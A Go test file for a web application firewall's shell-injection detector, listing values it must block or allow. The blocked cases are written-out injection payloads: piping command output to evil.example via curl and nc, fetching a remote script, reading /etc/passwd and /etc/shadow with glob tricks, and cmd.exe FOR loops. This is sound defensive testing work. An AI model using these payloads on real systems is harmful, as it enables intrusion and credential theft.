package shell

import (
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/waf/detect"
)

// shapeCase is one value and whether the default threshold (70) must
// block it; where is its placement.
type shapeCase struct {
	v      string
	where  detect.Where
	attack bool
}

func runShapes(t *testing.T, cases []shapeCase) {
	t.Helper()
	d := New()
	for _, tt := range cases {
		f, ok := d.Detect(detect.Input{Value: tt.v, Where: tt.where})
		if got := ok && f.Confidence >= 70; got != tt.attack {
			t.Errorf("%q (%s): finding %+v ok=%v, want attack=%v", tt.v, tt.where, f, ok, tt.attack)
		}
	}
}

// TestDocumentationShapes: man-page synopses and prose that mention
// commands, pipelines into xargs, and sentences that start like cmd.exe's
// IF are documentation, not a breakout; the same structures aimed at
// something still count.
func TestDocumentationShapes(t *testing.T) {
	runShapes(t, []shapeCase{
		{"ls [OPTION]... [FILE]...", detect.WhereJSON, false},
		{"cp [OPTION]... [-T] SOURCE DEST", detect.WhereQuery, false},
		{"cmd | xargs rm", detect.WhereQuery, false},
		{"une_commande | xargs -s 50000 echo | xargs -I '{}' -s 100000 rm '{}'", detect.WhereQuery, false},
		{"find /tmp -name core -type f -print | xargs /bin/rm -f", detect.WhereJSON, false},
		{"chown root /usr/{ucb/{ex,edit},lib/{ex?.?*,how_ex}}", detect.WhereJSON, false},
		{"flock /etc/passwd read-and-write-to-passwd", detect.WhereJSON, false},
		{"If ancestor_level == level of cgroup associated with sk, then return value will be the same", detect.WhereJSON, false},
		{"if x == y then the loop ends", detect.WhereForm, false},
		{"bt|db|dir|pag", detect.WhereJSON, false},
		{"`chroot`ed", detect.WhereJSON, false},
		{"start with `nohup`", detect.WhereJSON, false},
		{"-a, --algorithm lzo|lz4|lz4hc|deflate|842|zstd", detect.WhereJSON, false},
		{"`fetch`", detect.WhereForm, false},
		{"Set tls.DEFAULT_MAX_VERSION to 'TLSv1.2'.", detect.WhereQuery, false},
		{"Reproducer:\n\ncomm [,OPTION/] ... ,FICHIER1 FICHIER2/\n\nAny idea?", detect.WhereForm, false},
		// the same structures with a target
		{"x | ls | nc evil.example 4444", detect.WhereQuery, true},
		{`x" & iPcONfiG /ALL & "`, detect.WhereFileName, true},
		{"x; id | base64 | curl -d @- http://evil.example", detect.WhereQuery, true},
		{"; cat FILE /etc/passwd", detect.WhereQuery, true},
		{"x | dir", detect.WhereQuery, true},
		// a pipe into a word weakens nothing after a breakout, nor a
		// command that acts on its own at the end of a list
		{"; reboot | x", detect.WhereQuery, true},
		{"x && shutdown|aa", detect.WhereQuery, true},
		{";id|aa", detect.WhereQuery, true},
		{"a|b|c|reboot", detect.WhereQuery, true},
		{"x; $(id|aa)", detect.WhereQuery, true},
		{"x|id|base64", detect.WhereQuery, true},
		{"`id`", detect.WhereQuery, true},
		{"x; env", detect.WhereQuery, true},
		{"cat /[?]tc/pa[?]swd", detect.WhereQuery, true},
		{"x | xargs -I{} sh -c '{}'", detect.WhereQuery, true},
		{"x | xargs cat /etc/passwd", detect.WhereQuery, true},
		{"x | xargs curl http://evil.example/s.sh", detect.WhereQuery, true},
		{"flock -u / whoami", detect.WhereQuery, true},
		{"chroot / cat /etc/shadow", detect.WhereQuery, true},
		{"/???/c?t /etc/passwd", detect.WhereQuery, true},
		{"cat /e??/pa??wd", detect.WhereQuery, true},
		{`if "A A" == "A A" echo same`, detect.WhereQuery, true},
		{"IF %ERRORLEVEL% EQU 1 echo fail", detect.WhereQuery, true},
	})
}

// TestWindowsForLoop: cmd.exe's FOR, with its switches, quoted options
// (blanks inside), %var or %%var, a set that may quote a command with
// parentheses of its own, and DO with a command.
func TestWindowsForLoop(t *testing.T) {
	runShapes(t, []shapeCase{
		{"for /f %i in ('whoami') do echo %i", detect.WhereQuery, true},
		{`FOR /F "tokens=1,3 delims=," %%G IN (weather.txt) DO @echo %%G %%H`, detect.WhereQuery, true},
		{`& for /f "delims=" %i in ('cmd /c "set /a (63+21)"') do @set /p = X%iX< nul`, detect.WhereQuery, true},
		{`for /f "tokens=* delims=0" %%A in ("%n1%") do set "n1=%%A"`, detect.WhereForm, true},
		{`x& for /r c:\ %f in (*.ini) do type %f`, detect.WhereCookie, true},
		{"for %variable in (set) do command", detect.WhereQuery, true},
		{"for /L %n in (1,1,5) do ping -n 1 127.0.0.1", detect.WhereQuery, true},
		// decoy FOR heads before the loop hide nothing, however many
		{"x for for for for for for for for & for /f %i in ('whoami') do calc", detect.WhereQuery, true},
		{strings.Repeat("for ", 500) + "& for /f %i in ('whoami') do calc", detect.WhereQuery, true},
		{strings.Repeat("for /f %i in x ", 300) + "& for %i in (a) do calc", detect.WhereQuery, true},
		// heads whose sets each run to the end cost a scan of the value
		// each: past the work budget they are reported, not let through
		{strings.Repeat("for %i in ('x)' ", 300) + "& for /f %i in ('whoami') do calc", detect.WhereQuery, true},
		// prose and other loops
		{"for each item in (the list) do something nice", detect.WhereForm, false},
		{"I looked for a good set of tools in (my) garage to do the work", detect.WhereForm, false},
		{"for 50% in (most cases) do nothing", detect.WhereForm, false},
		{"for /f %i in ('whoami') do", detect.WhereQuery, false},
		{strings.Repeat("for the love of it, ", 200) + "100% done", detect.WhereForm, false},
	})
	f, _ := New().Detect(detect.Input{Value: "a& for /f %i in ('whoami') do echo %i", Where: detect.WhereQuery})
	if f.Start != 3 || f.Reason != "cmd.exe FOR /F loop over a command's output" {
		t.Errorf("span/reason %+v, want the loop from offset 3 reported as a FOR /F over a command", f)
	}
}

// TestArithmeticAndProcessSubstitution: bash's $[…] and $((…)) as a
// whole value are expansions the shell evaluates; substitutions inside
// them run; <(…) and >(…) run their command wherever they land as a word;
// an empty substitution splits a command word like quotes do.
func TestArithmeticAndProcessSubstitution(t *testing.T) {
	runShapes(t, []shapeCase{
		{"$[]", detect.WhereQuery, true},
		{"$[1+2]", detect.WhereQuery, true},
		{"$((7*7))", detect.WhereQuery, true},
		{"$(($() 42))", detect.WhereQuery, true},
		{"$[a[$(whoami)]]", detect.WhereQuery, true},
		{"x $(( $(id) ))", detect.WhereQuery, true},
		{">(tee log)", detect.WhereQuery, true},
		{"<(cat /etc/hosts)", detect.WhereQuery, true},
		{"diff <(ls) <(id)", detect.WhereQuery, true},
		{"pi<()ng 127.0.0.1", detect.WhereQuery, true},
		{"ping`` 127.0.0.1", detect.WhereQuery, true},
		{"who$()ami", detect.WhereQuery, true},
		// prose and prices
		{"The price is $[see below] per unit, or $((less)) with the coupon", detect.WhereForm, false},
		{"$5 (plus tax)", detect.WhereForm, false},
		{"a <(b) c", detect.WhereForm, false},
		{"Use $((a + b)) in bash to add two numbers", detect.WhereJSON, false},
	})
}

// TestDashlessOptions: ps, tar and ar take a first argument of option
// letters without a dash; "aux" after ps is an option cluster, not a word
// of a sentence.
func TestDashlessOptions(t *testing.T) {
	runShapes(t, []shapeCase{
		{"; ps aux #", detect.WhereQuery, true},
		{"|ps aux", detect.WhereJSON, true},
		{"127.0.0.1; ps aux", detect.WhereQuery, true},
		{"x$(ps aux)", detect.WhereQuery, true},
		{"; tar xvf backup.tar", detect.WhereQuery, true},
		{"I use ps aux daily to check things", detect.WhereForm, false},
		{"; ps house", detect.WhereForm, false},
	})
}
